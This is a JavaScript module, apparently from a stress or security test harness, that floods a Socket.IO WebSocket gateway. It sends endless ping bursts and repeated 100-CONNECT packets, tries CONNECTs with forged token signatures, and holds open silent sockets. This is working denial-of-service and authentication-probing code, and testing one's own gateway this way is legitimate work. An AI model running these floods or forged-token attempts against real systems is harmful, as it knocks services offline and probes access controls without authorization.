// Floods the gateway over WebSockets.
import {forged} from './hostile-requests.mjs';
import {SOCKET_IO, WebSocketClient} from './websocket-client.mjs';
import {pingFrame, textFrame} from './websocket-frames.mjs';

const PONG = 0xa;
const PINGS_AT_ONCE = Buffer.concat(Array.from({length: 1000}, () => pingFrame(Buffer.from('x'))));
const CONNECTS_AT_ONCE = 100;
const [ZERO, FOUR] = Buffer.from('04');
// What an answer to a CONNECT counts as.
const LET_IN = 101;
const REFUSED = 401;

/** Pings without end; a pong counts as 101. */
export function pings(target) {
  return ({answer, cut}) => {
    const pump = error => {
      if (!error) setTimeout(() => socket.write(PINGS_AT_ONCE, pump), 0);
    };
    const frame = opcode => opcode === PONG && answer(LET_IN);
    const socket = open(target, {open: () => pump(), frame, failure: cut});
    return () => socket.close();
  };
}

/** Of `{token}`: 100 CONNECTs in one packet, again and again. */
export function connects(target, {token}) {
  const packet = connectFrame(token);
  const all = Buffer.concat(Array.from({length: CONNECTS_AT_ONCE}, () => packet));
  return handshakes(target, {frames: () => all, count: CONNECTS_AT_ONCE});
}

/** Of `{token}`, with forged signatures. */
export function forgedTokens(target, {token}) {
  return handshakes(target, {frames: () => connectFrame(forged(token)), count: 1});
}

/** A WebSocket that never sends a CONNECT. */
export function silent(target) {
  return ({cut}) => {
    const socket = open(target, {open: () => undefined, frame: () => undefined, failure: cut});
    return () => socket.close();
  };
}

// Sends the frames once the server has said hello, and comes back with a new connection when all are answered.
function handshakes(target, {frames, count}) {
  return ({answer, cut, again}) => {
    let missing = count;
    const frame = (opcode, bytes, start) => {
      if (bytes[start] === ZERO) socket.write(frames());
      if (bytes[start] !== FOUR) return;
      answer(bytes[start + 1] === ZERO ? LET_IN : REFUSED);
      missing -= 1;
      if (missing === 0) again();
    };
    const socket = open(target, {open: () => undefined, frame, failure: cut});
    return () => socket.close();
  };
}

function open({url, localAddress}, on) {
  return new WebSocketClient({url, target: SOCKET_IO, localAddress}, on);
}

function connectFrame(token) {
  return textFrame(`40/observation,${JSON.stringify({token})}`);
}
